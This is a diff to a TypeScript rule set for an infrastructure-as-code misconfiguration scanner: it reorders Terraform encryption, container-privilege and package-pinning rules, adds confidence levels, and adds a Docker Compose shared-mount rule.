@@ -41966,7 +42857,8 @@ export const ruleSet: RuleSet = {
        ]
       }
      ],
-     "severity": "info"
+     "severity": "info",
+     "confidence": "low"
     },
     {
      "format": "terraform",
@@ -41991,7 +42883,8 @@ export const ruleSet: RuleSet = {
       }
      ],
      "message": "{name} writes whole statements into its log, values included.",
-     "severity": "info"
+     "severity": "info",
+     "confidence": "low"
     }
    ],
    "languages": [
@@ -42031,18 +42924,75 @@ export const ruleSet: RuleSet = {
      "each": "commands[*]",
      "where": [
       {
-       "path": "name",
-       "is": "chmod"
-      },
-      {
        "path": "args[*]",
        "matches": "^[2467][0-7]{3}$|^[ugoa]{0,2}[ug][ugoa]{0,2}\\+[rwx]{0,3}s[rwx]{0,3}$|^\\+s$"
+      },
+      {
+       "path": "name",
+       "is": "chmod"
       }
      ]
     }
    ],
    "languages": [
     "dockerfile"
+   ]
+  },
+  {
+   "id": "shared-mount",
+   "title": "Mount shared with the host",
+   "category": "security",
+   "severity": "medium",
+   "confidence": "high",
+   "cwe": [
+    668
+   ],
+   "owasp": [
+    "A05:2021"
+   ],
+   "tags": [
+    "container",
+    "isolation",
+    "CIS-Docker-5.20",
+    "KICS-baa452f0"
+   ],
+   "message": "What `{name}` mounts below `{value}` shows up on the host.",
+   "why": "With shared propagation a mount that is made in the container is one of the host as well, in all its containers.",
+   "fix": "Leave propagation out; its default is `rprivate`.",
+   "references": [
+    "https://docs.docker.com/engine/storage/bind-mounts/"
+   ],
+   "match": [
+    {
+     "format": "compose",
+     "resource": [
+      "mount"
+     ],
+     "where": [
+      {
+       "path": "bind.propagation",
+       "is": [
+        "shared",
+        "rshared"
+       ]
+      }
+     ]
+    },
+    {
+     "format": "compose",
+     "resource": [
+      "service"
+     ],
+     "each": "volumes[*]",
+     "where": [
+      {
+       "matches": ":(?:[\\w,]{0,20},)?r?shared(?:,|$)"
+      }
+     ]
+    }
+   ],
+   "languages": [
+    "yaml"
    ]
   },
   {
@@ -42184,7 +43134,7 @@ export const ruleSet: RuleSet = {
    "title": "Database in a single zone",
    "category": "security",
    "severity": "info",
-   "confidence": "high",
+   "confidence": "low",
    "cwe": [
     693
    ],
@@ -42662,32 +43612,6 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "aws_instance",
-      "aws_launch_configuration"
-     ],
-     "where": [
-      {
-       "path": [
-        "root_block_device[*]",
-        "ebs_block_device[*]"
-       ],
-       "where": [
-        {
-         "path": "encrypted",
-         "absent": true
-        },
-        {
-         "path": "snapshot_id",
-         "absent": true
-        }
-       ]
-      }
-     ],
-     "severity": "medium"
-    },
-    {
-     "format": "terraform",
-     "resource": [
       "aws_launch_configuration"
      ],
      "where": [
@@ -42703,35 +43627,6 @@ export const ruleSet: RuleSet = {
        "absent": true
       }
      ]
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_instance",
-      "aws_launch_configuration"
-     ],
-     "where": [
-      {
-       "path": "root_block_device",
-       "absent": true
-      },
-      {
-       "path": [
-        "launch_template",
-        "/launch_template[*].id"
-       ],
-       "absent": true
-      },
-      {
-       "none": {
-        "types": [
-         "aws_ebs_encryption_by_default"
-        ]
-       }
-      }
-     ],
-     "message": "{name} does not say that its root disk is encrypted; it is only where the account encrypts by default.",
-     "severity": "low"
     },
     {
      "format": "terraform",
@@ -42802,24 +43697,6 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "aws_kinesis_firehose_delivery_stream"
-     ],
-     "where": [
-      {
-       "path": "server_side_encryption.enabled",
-       "default": false,
-       "is": false
-      },
-      {
-       "path": "kinesis_source_configuration[*]",
-       "absent": true
-      }
-     ],
-     "severity": "medium"
-    },
-    {
-     "format": "terraform",
-     "resource": [
       "aws_sqs_queue"
      ],
      "where": [
@@ -42837,21 +43714,114 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "aws_sqs_queue"
+      "aws_emr_security_configuration"
      ],
      "where": [
       {
-       "path": "sqs_managed_sse_enabled",
-       "absent": true
-      },
+       "path": "configuration.EncryptionConfiguration.EnableAtRestEncryption",
+       "is": false
+      }
+     ]
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "azurerm_managed_disk",
+      "azurerm_snapshot"
+     ],
+     "where": [
       {
-       "path": "kms_master_key_id",
-       "default": "",
-       "is": ""
+       "path": "encryption_settings[*].enabled",
+       "is": false
+      }
+     ]
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "azurerm_data_lake_store"
+     ],
+     "where": [
+      {
+       "path": "encryption_state",
+       "is": "Disabled"
+      }
+     ]
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "azurerm_mssql_database",
+      "azurerm_sql_database"
+     ],
+     "where": [
+      {
+       "path": "transparent_data_encryption_enabled",
+       "is": false
+      }
+     ]
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_docdb_global_cluster"
+     ],
+     "where": [
+      {
+       "path": "storage_encrypted",
+       "default": false,
+       "is": false
       }
      ],
-     "message": "{name} names no key: it has the encryption that SQS gives by default.",
-     "severity": "low"
+     "fix": {
+      "title": "Set storage_encrypted to true",
+      "set": "storage_encrypted",
+      "to": "true"
+     }
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_instance",
+      "aws_launch_configuration"
+     ],
+     "where": [
+      {
+       "path": [
+        "root_block_device[*]",
+        "ebs_block_device[*]"
+       ],
+       "where": [
+        {
+         "path": "encrypted",
+         "absent": true
+        },
+        {
+         "path": "snapshot_id",
+         "absent": true
+        }
+       ]
+      }
+     ],
+     "severity": "medium"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_kinesis_firehose_delivery_stream"
+     ],
+     "where": [
+      {
+       "path": "server_side_encryption.enabled",
+       "default": false,
+       "is": false
+      },
+      {
+       "path": "kinesis_source_configuration[*]",
+       "absent": true
+      }
+     ],
+     "severity": "medium"
     },
     {
      "format": "terraform",
@@ -43053,6 +44023,139 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
+      "aws_imagebuilder_image_recipe"
+     ],
+     "where": [
+      {
+       "path": "block_device_mapping[*].ebs[*].encrypted",
+       "default": false,
+       "is": false
+      }
+     ],
+     "unless": [
+      {
+       "path": "block_device_mapping[*].ebs[*]",
+       "absent": true
+      }
+     ],
+     "severity": "medium"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "azurerm_automation_variable_string",
+      "azurerm_automation_variable_int",
+      "azurerm_automation_variable_bool",
+      "azurerm_automation_variable_datetime"
+     ],
+     "where": [
+      {
+       "path": "encrypted",
+       "default": false,
+       "is": false
+      }
+     ],
+     "severity": "medium",
+     "fix": {
+      "title": "Set encrypted to true",
+      "set": "encrypted",
+      "to": "true"
+     }
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "azurerm_kusto_cluster"
+     ],
+     "where": [
+      {
+       "path": "disk_encryption_enabled",
+       "default": false,
+       "is": false
+      }
+     ],
+     "severity": "medium"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "azurerm_service_fabric_cluster"
+     ],
+     "where": [
+      {
+       "path": "fabric_settings[*].parameters.ClusterProtectionLevel",
+       "is": [
+        "None",
+        "Sign"
+       ]
+      }
+     ],
+     "severity": "medium"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_dlm_lifecycle_policy"
+     ],
+     "where": [
+      {
+       "path": "policy_details[*].action[*].cross_region_copy[*].encryption_configuration[*].encrypted",
+       "is": false
+      }
+     ],
+     "severity": "medium"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_instance",
+      "aws_launch_configuration"
+     ],
+     "where": [
+      {
+       "path": "root_block_device",
+       "absent": true
+      },
+      {
+       "path": [
+        "launch_template",
+        "/launch_template[*].id"
+       ],
+       "absent": true
+      },
+      {
+       "none": {
+        "types": [
+         "aws_ebs_encryption_by_default"
+        ]
+       }
+      }
+     ],
+     "message": "{name} does not say that its root disk is encrypted; it is only where the account encrypts by default.",
+     "severity": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_sqs_queue"
+     ],
+     "where": [
+      {
+       "path": "sqs_managed_sse_enabled",
+       "absent": true
+      },
+      {
+       "path": "kms_master_key_id",
+       "default": "",
+       "is": ""
+      }
+     ],
+     "message": "{name} names no key: it has the encryption that SQS gives by default.",
+     "severity": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
       "aws_dynamodb_table"
      ],
      "where": [
@@ -43080,18 +44183,6 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "aws_emr_security_configuration"
-     ],
-     "where": [
-      {
-       "path": "configuration.EncryptionConfiguration.EnableAtRestEncryption",
-       "is": false
-      }
-     ]
-    },
-    {
-     "format": "terraform",
-     "resource": [
       "aws_sagemaker_endpoint_configuration"
      ],
      "where": [
@@ -43102,26 +44193,6 @@ export const ruleSet: RuleSet = {
      ],
      "message": "{name} names no key for the disks of its machines.",
      "severity": "low"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_imagebuilder_image_recipe"
-     ],
-     "where": [
-      {
-       "path": "block_device_mapping[*].ebs[*].encrypted",
-       "default": false,
-       "is": false
-      }
-     ],
-     "unless": [
-      {
-       "path": "block_device_mapping[*].ebs[*]",
-       "absent": true
-      }
-     ],
-     "severity": "medium"
     },
     {
      "format": "terraform",
@@ -43175,19 +44246,6 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "azurerm_managed_disk",
-      "azurerm_snapshot"
-     ],
-     "where": [
-      {
-       "path": "encryption_settings[*].enabled",
-       "is": false
-      }
-     ]
-    },
-    {
-     "format": "terraform",
-     "resource": [
       "azurerm_linux_virtual_machine",
       "azurerm_windows_virtual_machine",
       "azurerm_linux_virtual_machine_scale_set",
@@ -43207,68 +44265,6 @@ export const ruleSet: RuleSet = {
       "set": "encryption_at_host_enabled",
       "to": "true"
      }
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "azurerm_data_lake_store"
-     ],
-     "where": [
-      {
-       "path": "encryption_state",
-       "is": "Disabled"
-      }
-     ]
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "azurerm_automation_variable_string",
-      "azurerm_automation_variable_int",
-      "azurerm_automation_variable_bool",
-      "azurerm_automation_variable_datetime"
-     ],
-     "where": [
-      {
-       "path": "encrypted",
-       "default": false,
-       "is": false
-      }
-     ],
-     "severity": "medium",
-     "fix": {
-      "title": "Set encrypted to true",
-      "set": "encrypted",
-      "to": "true"
-     }
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "azurerm_kusto_cluster"
-     ],
-     "where": [
-      {
-       "path": "disk_encryption_enabled",
-       "default": false,
-       "is": false
-      }
-     ],
-     "severity": "medium"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "azurerm_kusto_cluster"
-     ],
-     "where": [
-      {
-       "path": "double_encryption_enabled",
-       "default": false,
-       "is": false
-      }
-     ],
-     "severity": "info"
     },
     {
      "format": "terraform",
@@ -43294,35 +44290,6 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "azurerm_mssql_database",
-      "azurerm_sql_database"
-     ],
-     "where": [
-      {
-       "path": "transparent_data_encryption_enabled",
-       "is": false
-      }
-     ]
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "azurerm_service_fabric_cluster"
-     ],
-     "where": [
-      {
-       "path": "fabric_settings[*].parameters.ClusterProtectionLevel",
-       "is": [
-        "None",
-        "Sign"
-       ]
-      }
-     ],
-     "severity": "medium"
-    },
-    {
-     "format": "terraform",
-     "resource": [
       "google_container_cluster"
      ],
      "where": [
@@ -43334,37 +44301,6 @@ export const ruleSet: RuleSet = {
      ],
      "message": "{name} keeps its Kubernetes secrets without a key of their own.",
      "severity": "low"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_dlm_lifecycle_policy"
-     ],
-     "where": [
-      {
-       "path": "policy_details[*].action[*].cross_region_copy[*].encryption_configuration[*].encrypted",
-       "is": false
-      }
-     ],
-     "severity": "medium"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_docdb_global_cluster"
-     ],
-     "where": [
-      {
-       "path": "storage_encrypted",
-       "default": false,
-       "is": false
-      }
-     ],
-     "fix": {
-      "title": "Set storage_encrypted to true",
-      "set": "storage_encrypted",
-      "to": "true"
-     }
     },
     {
      "format": "terraform",
@@ -43413,6 +44349,21 @@ export const ruleSet: RuleSet = {
      ],
      "message": "{name} keeps its disk in a storage account, where no disk encryption reaches.",
      "severity": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "azurerm_kusto_cluster"
+     ],
+     "where": [
+      {
+       "path": "double_encryption_enabled",
+       "default": false,
+       "is": false
+      }
+     ],
+     "severity": "info",
+     "confidence": "low"
     }
    ],
    "languages": [
@@ -43668,7 +44619,7 @@ export const ruleSet: RuleSet = {
    "title": "Snapshots without the tags",
    "category": "security",
    "severity": "info",
-   "confidence": "high",
+   "confidence": "low",
    "cwe": [
     1059
    ],
@@ -43761,19 +44712,6 @@ export const ruleSet: RuleSet = {
      ],
      "where": [
       {
-       "path": "network_mode",
-       "is": "host"
-      }
-     ],
-     "severity": "medium"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_ecs_task_definition"
-     ],
-     "where": [
-      {
        "path": [
         "pid_mode",
         "ipc_mode"
@@ -43781,24 +44719,6 @@ export const ruleSet: RuleSet = {
        "is": "host"
       }
      ]
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_ecs_task_definition"
-     ],
-     "where": [
-      {
-       "path": "container_definitions[*].user",
-       "is": [
-        "root",
-        "0",
-        "0:0"
-       ]
-      }
-     ],
-     "message": "{name} runs a container as root.",
-     "severity": "medium"
     },
     {
      "format": "terraform",
@@ -43833,39 +44753,6 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "aws_ecs_task_definition"
-     ],
-     "where": [
-      {
-       "path": "container_definitions[*].readonlyRootFilesystem",
-       "is": false
-      }
-     ],
-     "message": "{name} lets a container write to its own system.",
-     "severity": "low"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_ecs_task_definition"
-     ],
-     "where": [
-      {
-       "path": "container_definitions[*]",
-       "where": [
-        {
-         "path": "readonlyRootFilesystem",
-         "absent": true
-        }
-       ]
-      }
-     ],
-     "message": "{name} lets a container write to its own system.",
-     "severity": "info"
-    },
-    {
-     "format": "terraform",
-     "resource": [
       "aws_batch_job_definition"
      ],
      "where": [
@@ -43874,53 +44761,6 @@ export const ruleSet: RuleSet = {
        "is": true
       }
      ]
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_codebuild_project"
-     ],
-     "where": [
-      {
-       "path": "environment[*].privileged_mode",
-       "is": true
-      }
-     ],
-     "message": "{name} builds with rights of its machine, which only the building of images needs.",
-     "severity": "low"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_sagemaker_notebook_instance"
-     ],
-     "where": [
-      {
-       "path": "root_access",
-       "is": "Enabled"
-      }
-     ],
-     "message": "{name} makes its users root.",
-     "severity": "low",
-     "fix": {
-      "title": "Set root_access to \"Disabled\"",
-      "set": "root_access",
-      "to": "\"Disabled\""
-     }
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_sagemaker_notebook_instance"
-     ],
-     "where": [
-      {
-       "path": "root_access",
-       "absent": true
-      }
-     ],
-     "message": "{name} makes its users root: that is the default.",
-     "severity": "low"
     },
     {
      "format": "terraform",
@@ -43991,6 +44831,118 @@ export const ruleSet: RuleSet = {
        "is": true
       }
      ]
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_ecs_task_definition"
+     ],
+     "where": [
+      {
+       "path": "network_mode",
+       "is": "host"
+      }
+     ],
+     "severity": "medium"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_ecs_task_definition"
+     ],
+     "where": [
+      {
+       "path": "container_definitions[*].user",
+       "is": [
+        "root",
+        "0",
+        "0:0"
+       ]
+      }
+     ],
+     "message": "{name} runs a container as root.",
+     "severity": "medium"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_ecs_task_definition"
+     ],
+     "where": [
+      {
+       "path": "container_definitions[*].readonlyRootFilesystem",
+       "is": false
+      }
+     ],
+     "message": "{name} lets a container write to its own system.",
+     "severity": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_codebuild_project"
+     ],
+     "where": [
+      {
+       "path": "environment[*].privileged_mode",
+       "is": true
+      }
+     ],
+     "message": "{name} builds with rights of its machine, which only the building of images needs.",
+     "severity": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_sagemaker_notebook_instance"
+     ],
+     "where": [
+      {
+       "path": "root_access",
+       "is": "Enabled"
+      }
+     ],
+     "message": "{name} makes its users root.",
+     "severity": "low",
+     "fix": {
+      "title": "Set root_access to \"Disabled\"",
+      "set": "root_access",
+      "to": "\"Disabled\""
+     }
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_sagemaker_notebook_instance"
+     ],
+     "where": [
+      {
+       "path": "root_access",
+       "absent": true
+      }
+     ],
+     "message": "{name} makes its users root: that is the default.",
+     "severity": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_ecs_task_definition"
+     ],
+     "where": [
+      {
+       "path": "container_definitions[*]",
+       "where": [
+        {
+         "path": "readonlyRootFilesystem",
+         "absent": true
+        }
+       ]
+      }
+     ],
+     "message": "{name} lets a container write to its own system.",
+     "severity": "info",
+     "confidence": "low"
     }
    ],
    "languages": [
@@ -44164,21 +45116,6 @@ export const ruleSet: RuleSet = {
      ],
      "where": [
       {
-       "path": "node_to_node_encryption.enabled",
-       "default": false,
-       "is": false
-      }
-     ],
-     "severity": "medium"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_opensearch_domain",
-      "aws_elasticsearch_domain"
-     ],
-     "where": [
-      {
        "path": "domain_endpoint_options[*].enforce_https",
        "default": false,
        "is": false
@@ -44233,34 +45170,6 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "aws_dax_cluster"
-     ],
-     "where": [
-      {
-       "path": "cluster_endpoint_encryption_type",
-       "default": "NONE",
-       "is": "NONE"
-      }
-     ],
-     "severity": "medium"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_appsync_api_cache"
-     ],
-     "where": [
-      {
-       "path": "transit_encryption_enabled",
-       "default": false,
-       "is": false
-      }
-     ],
-     "severity": "medium"
-    },
-    {
-     "format": "terraform",
-     "resource": [
       "aws_emr_security_configuration"
      ],
      "where": [
@@ -44293,21 +45202,6 @@ export const ruleSet: RuleSet = {
        ]
       }
      ]
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_redshift_parameter_group"
-     ],
-     "where": [
-      {
-       "not": {
-        "path": "parameter[*].name",
-        "is": "require_ssl"
-       }
-      }
-     ],
-     "severity": "medium"
     },
     {
      "format": "terraform",
@@ -44391,49 +45285,6 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "aws_dms_endpoint"
-     ],
-     "where": [
-      {
-       "path": "ssl_mode",
-       "default": "none",
-       "is": "none"
-      }
-     ],
-     "unless": [
-      {
-       "path": "engine_name",
-       "is": [
-        "s3",
-        "kinesis",
-        "dynamodb",
-        "redshift",
-        "opensearch",
-        "elasticsearch",
-        "kafka",
-        "neptune"
-       ]
-      }
-     ],
-     "severity": "low"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_sagemaker_data_quality_job_definition"
-     ],
-     "where": [
-      {
-       "path": "network_config.enable_inter_container_traffic_encryption",
-       "default": false,
-       "is": false
-      }
-     ],
-     "severity": "low"
-    },
-    {
-     "format": "terraform",
-     "resource": [
       "azurerm_storage_account"
      ],
      "where": [
@@ -44484,6 +45335,96 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
+      "azurerm_postgresql_flexible_server_configuration",
+      "azurerm_mysql_flexible_server_configuration"
+     ],
+     "where": [
+      {
+       "path": "name",
+       "is": "require_secure_transport"
+      },
+      {
+       "path": "value",
+       "is": "off"
+      }
+     ]
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "google_sql_database_instance"
+     ],
+     "where": [
+      {
+       "path": "settings[*].ip_configuration[*].ssl_mode",
+       "is": [
+        "ALLOW_UNENCRYPTED_AND_ENCRYPTED",
+        "SSL_MODE_UNSPECIFIED"
+       ]
+      }
+     ]
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_opensearch_domain",
+      "aws_elasticsearch_domain"
+     ],
+     "where": [
+      {
+       "path": "node_to_node_encryption.enabled",
+       "default": false,
+       "is": false
+      }
+     ],
+     "severity": "medium"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_dax_cluster"
+     ],
+     "where": [
+      {
+       "path": "cluster_endpoint_encryption_type",
+       "default": "NONE",
+       "is": "NONE"
+      }
+     ],
+     "severity": "medium"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_appsync_api_cache"
+     ],
+     "where": [
+      {
+       "path": "transit_encryption_enabled",
+       "default": false,
+       "is": false
+      }
+     ],
+     "severity": "medium"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_redshift_parameter_group"
+     ],
+     "where": [
+      {
+       "not": {
+        "path": "parameter[*].name",
+        "is": "require_ssl"
+       }
+      }
+     ],
+     "severity": "medium"
+    },
+    {
+     "format": "terraform",
+     "resource": [
       "azurerm_app_service",
       "azurerm_function_app",
       "azurerm_linux_web_app",
@@ -44509,23 +45450,6 @@ export const ruleSet: RuleSet = {
       "set": "https_only",
       "to": "true"
      }
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "azurerm_postgresql_flexible_server_configuration",
-      "azurerm_mysql_flexible_server_configuration"
-     ],
-     "where": [
-      {
-       "path": "name",
-       "is": "require_secure_transport"
-      },
-      {
-       "path": "value",
-       "is": "off"
-      }
-     ]
     },
     {
      "format": "terraform",
@@ -44652,21 +45576,6 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "google_sql_database_instance"
-     ],
-     "where": [
-      {
-       "path": "settings[*].ip_configuration[*].ssl_mode",
-       "is": [
-        "ALLOW_UNENCRYPTED_AND_ENCRYPTED",
-        "SSL_MODE_UNSPECIFIED"
-       ]
-      }
-     ]
-    },
-    {
-     "format": "terraform",
-     "resource": [
       "google_redis_instance"
      ],
      "where": [
@@ -44681,20 +45590,6 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "google_compute_backend_service",
-      "google_compute_region_backend_service"
-     ],
-     "where": [
-      {
-       "path": "protocol",
-       "is": "HTTP"
-      }
-     ],
-     "severity": "info"
-    },
-    {
-     "format": "terraform",
-     "resource": [
       "aws_cloudsearch_domain"
      ],
      "where": [
@@ -44705,6 +45600,65 @@ export const ruleSet: RuleSet = {
       }
      ],
      "severity": "medium"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "google_app_engine_standard_app_version"
+     ],
+     "where": [
+      {
+       "path": "handlers[*].security_level",
+       "is": [
+        "SECURE_OPTIONAL",
+        "SECURE_NEVER"
+       ]
+      }
+     ],
+     "severity": "medium"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_dms_endpoint"
+     ],
+     "where": [
+      {
+       "path": "ssl_mode",
+       "default": "none",
+       "is": "none"
+      }
+     ],
+     "unless": [
+      {
+       "path": "engine_name",
+       "is": [
+        "s3",
+        "kinesis",
+        "dynamodb",
+        "redshift",
+        "opensearch",
+        "elasticsearch",
+        "kafka",
+        "neptune"
+       ]
+      }
+     ],
+     "severity": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_sagemaker_data_quality_job_definition"
+     ],
+     "where": [
+      {
+       "path": "network_config.enable_inter_container_traffic_encryption",
+       "default": false,
+       "is": false
+      }
+     ],
+     "severity": "low"
     },
     {
      "format": "terraform",
@@ -44724,18 +45678,17 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "google_app_engine_standard_app_version"
+      "google_compute_backend_service",
+      "google_compute_region_backend_service"
      ],
      "where": [
       {
-       "path": "handlers[*].security_level",
-       "is": [
-        "SECURE_OPTIONAL",
-        "SECURE_NEVER"
-       ]
+       "path": "protocol",
+       "is": "HTTP"
       }
      ],
-     "severity": "medium"
+     "severity": "info",
+     "confidence": "low"
     },
     {
      "format": "terraform",
@@ -44768,7 +45721,8 @@ export const ruleSet: RuleSet = {
       }
      ],
      "message": "{name} does not refuse what comes without TLS.",
-     "severity": "info"
+     "severity": "info",
+     "confidence": "low"
     }
    ],
    "languages": [
@@ -45464,6 +46418,10 @@ export const ruleSet: RuleSet = {
      "each": "commands[*]",
      "where": [
       {
+       "path": "operands[*]",
+       "matches": "^[A-Za-z0-9][\\w.+-]{0,80}(?::\\w{1,8})?$"
+      },
+      {
        "path": "name",
        "is": [
         "apt-get",
@@ -45474,10 +46432,6 @@ export const ruleSet: RuleSet = {
       {
        "path": "subcommand",
        "is": "install"
-      },
-      {
-       "path": "operands[*]",
-       "matches": "^[A-Za-z0-9][\\w.+-]{0,80}(?::\\w{1,8})?$"
       },
       {
        "not": {
@@ -45495,16 +46449,16 @@ export const ruleSet: RuleSet = {
      "each": "commands[*]",
      "where": [
       {
+       "path": "operands[*]",
+       "matches": "^[A-Za-z0-9][\\w.+-]{0,80}$"
+      },
+      {
        "path": "name",
        "is": "apk"
       },
       {
        "path": "subcommand",
        "is": "add"
-      },
-      {
-       "path": "operands[*]",
-       "matches": "^[A-Za-z0-9][\\w.+-]{0,80}$"
       },
       {
        "not": {
@@ -45522,16 +46476,16 @@ export const ruleSet: RuleSet = {
      "each": "commands[*]",
      "where": [
       {
+       "path": "operands[*]",
+       "matches": "^[A-Za-z0-9][\\w.-]{0,80}(?:\\[[\\w,.-]{1,80}\\])?$"
+      },
+      {
        "path": "name",
        "is": "pip"
       },
       {
        "path": "subcommand",
        "is": "install"
-      },
-      {
-       "path": "operands[*]",
-       "matches": "^[A-Za-z0-9][\\w.-]{0,80}(?:\\[[\\w,.-]{1,80}\\])?$"
       },
       {
        "not": {
@@ -45549,6 +46503,10 @@ export const ruleSet: RuleSet = {
      "each": "commands[*]",
      "where": [
       {
+       "path": "operands[*]",
+       "matches": "^(?:@[\\w.-]{1,60}/)?[A-Za-z0-9][\\w.-]{0,80}(?:@latest)?$"
+      },
+      {
        "path": "name",
        "is": "npm"
       },
@@ -45559,10 +46517,6 @@ export const ruleSet: RuleSet = {
         "i",
         "add"
        ]
-      },
-      {
-       "path": "operands[*]",
-       "matches": "^(?:@[\\w.-]{1,60}/)?[A-Za-z0-9][\\w.-]{0,80}(?:@latest)?$"
       }
      ],
      "unless": [
@@ -45580,16 +46534,16 @@ export const ruleSet: RuleSet = {
      "each": "commands[*]",
      "where": [
       {
+       "path": "operands[*]",
+       "matches": "^[A-Za-z0-9][\\w.-]{0,80}$"
+      },
+      {
        "path": "name",
        "is": "gem"
       },
       {
        "path": "subcommand",
        "is": "install"
-      },
-      {
-       "path": "operands[*]",
-       "matches": "^[A-Za-z0-9][\\w.-]{0,80}$"
       },
       {
        "not": {
@@ -45610,6 +46564,10 @@ export const ruleSet: RuleSet = {
      "each": "commands[*]",
      "where": [
       {
+       "path": "operands[*]",
+       "matches": "^(?!.{0,80}-\\d)[A-Za-z][\\w.+-]{0,80}$"
+      },
+      {
        "path": "name",
        "is": [
         "yum",
@@ -45620,10 +46578,6 @@ export const ruleSet: RuleSet = {
       {
        "path": "subcommand",
        "is": "install"
-      },
-      {
-       "path": "operands[*]",
-       "matches": "^(?!.{0,80}-\\d)[A-Za-z][\\w.+-]{0,80}$"
       },
       {
        "not": {
@@ -45641,6 +46595,10 @@ export const ruleSet: RuleSet = {
      "each": "commands[*]",
      "where": [
       {
+       "path": "operands[*]",
+       "matches": "^[A-Za-z][\\w.+-]{0,80}$"
+      },
+      {
        "path": "name",
        "is": "zypper"
       },
@@ -45650,10 +46608,6 @@ export const ruleSet: RuleSet = {
         "install",
         "in"
        ]
-      },
-      {
-       "path": "operands[*]",
-       "matches": "^[A-Za-z][\\w.+-]{0,80}$"
       }
      ]
     },
@@ -45665,16 +46619,16 @@ export const ruleSet: RuleSet = {
      "each": "commands[*]",
      "where": [
       {
+       "path": "operands[*]",
+       "matches": "^(?!\\.)[\\w./-]{1,120}(?:@latest)?$"
+      },
+      {
        "path": "name",
        "is": "go"
       },
       {
        "path": "subcommand",
        "is": "install"
-      },
-      {
-       "path": "operands[*]",
-       "matches": "^(?!\\.)[\\w./-]{1,120}(?:@latest)?$"
       },
       {
        "path": "operands[*]",
@@ -45769,7 +46723,8 @@ export const ruleSet: RuleSet = {
       }
      ],
      "message": "{name} lets traffic out to the whole internet on this port.",
-     "severity": "info"
+     "severity": "info",
+     "confidence": "low"
     }
    ],
    "languages": [
@@ -46318,34 +47273,8 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "firewall-ingress"
-     ],
-     "where": [
-      {
-       "path": "peers[*]",
-       "matches": "^(?:0\\.0\\.0\\.0/0|::/0|0000:0000:0000:0000:0000:0000:0000:0000/0|\\*|any|internet|0\\.0\\.0\\.0|<nw>/0|/0)$"
-      },
-      {
-       "path": "ports[*]",
-       "where": [
-        {
-         "path": "from",
-         "is": 80
-        },
-        {
-         "path": "to",
-         "is": 80
-        }
-       ]
-      }
-     ],
-     "message": "{name} lets the whole internet in on port 80, where nothing is encrypted.",
-     "severity": "low"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "acl-ingress"
+      "acl-ingress:aws_network_acl",
